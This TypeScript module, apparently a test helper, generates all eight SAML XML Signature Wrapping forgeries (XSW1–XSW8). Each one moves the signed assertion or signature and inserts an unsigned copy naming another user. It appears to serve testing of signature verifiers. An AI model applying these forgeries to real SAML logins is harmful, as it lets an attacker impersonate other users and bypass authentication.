import { newId } from './saml-answer.js';

/**
 * The eight ways of wrapping a signature (Somorovsky et al., On Breaking SAML, 2012): what is signed stays in the document,
 * and what says somebody else's name lies where a careless reader looks.
 */
export type Wrapping = (xml: string, name: string) => string;

interface Parts {
  /** The whole assertion as it is signed. */
  assertion: string;
  /** The same without its signature. */
  bare: string;
  /** The same, unsigned, of another id and another name. */
  evil: string;
  signature: string;
}

function partsOf(xml: string, name: string): Parts {
  const assertion = /<saml:Assertion [\s\S]*<\/saml:Assertion>/.exec(xml)![0];
  const signature = /<Signature [\s\S]*?<\/Signature>/.exec(assertion)![0];
  const bare = assertion.replace(signature, '');
  return { assertion, bare, signature, evil: somebodyElse(bare, name) };
}

function somebodyElse(xml: string, name: string): string {
  return xml
    .replace(/(<saml:NameID[^>]*>)[^<]*/g, (_all, open: string) => `${open}${name}`)
    .replace(/ ID="[^"]*"/g, () => ` ID="${newId()}"`);
}

const inside = (signature: string, what: string) => signature.replace('</Signature>', `${what}</Signature>`);
const afterIssuer = (assertion: string, what: string) =>
  assertion.replace('</saml:Issuer>', `</saml:Issuer>${what}`);

/** For a signed response: the signed one within, or before, the signature of another. */
function ofResponse(place: (signature: string, original: string) => string): Wrapping {
  return (xml, name) => {
    const signature = /<Signature [\s\S]*?<\/Signature>/.exec(xml)![0];
    const bare = xml.replace(signature, '');
    const evil = somebodyElse(bare.replace(/<Signature [\s\S]*?<\/Signature>/, ''), name);
    return afterIssuer(evil, place(signature, bare));
  };
}

/** For a signed assertion. */
function ofAssertion(place: (parts: Parts) => string): Wrapping {
  return (xml, name) => {
    const parts = partsOf(xml, name);
    return xml.replace(parts.assertion, () => place(parts));
  };
}

export const wrappingsOfResponse: Readonly<Record<string, Wrapping>> = {
  'XSW1: the response within its signature': ofResponse(inside),
  'XSW2: the response before its signature': ofResponse((signature, original) => `${original}${signature}`),
};

export const wrappingsOfAssertion: Readonly<Record<string, Wrapping>> = {
  'XSW3: another assertion before the signed one': ofAssertion(
    ({ evil, assertion }) => `${evil}${assertion}`,
  ),
  'XSW4: the signed assertion within another': ofAssertion(({ evil, assertion }) =>
    afterIssuer(evil, assertion),
  ),
  'XSW5: the signature in another assertion': ofAssertion(
    ({ evil, signature, bare }) => `${afterIssuer(evil, signature)}${bare}`,
  ),
  'XSW6: the assertion in its signature in another': ofAssertion(({ evil, signature, bare }) =>
    afterIssuer(evil, inside(signature, bare)),
  ),
  'XSW7: another assertion among extensions': ofAssertion(
    ({ evil, assertion }) => `<samlp:Extensions>${evil}</samlp:Extensions>${assertion}`,
  ),
  'XSW7: another assertion of the same id among extensions': ofAssertion(
    ({ evil, assertion }) =>
      `<samlp:Extensions>${evil.replace(/ ID="[^"]*"/, / ID="[^"]*"/.exec(assertion)![0])}</samlp:Extensions>${assertion}`,
  ),
  'XSW8: the assertion as an object of its signature': ofAssertion(({ evil, signature, bare }) =>
    afterIssuer(evil, inside(signature, `<Object>${bare}</Object>`)),
  ),
};
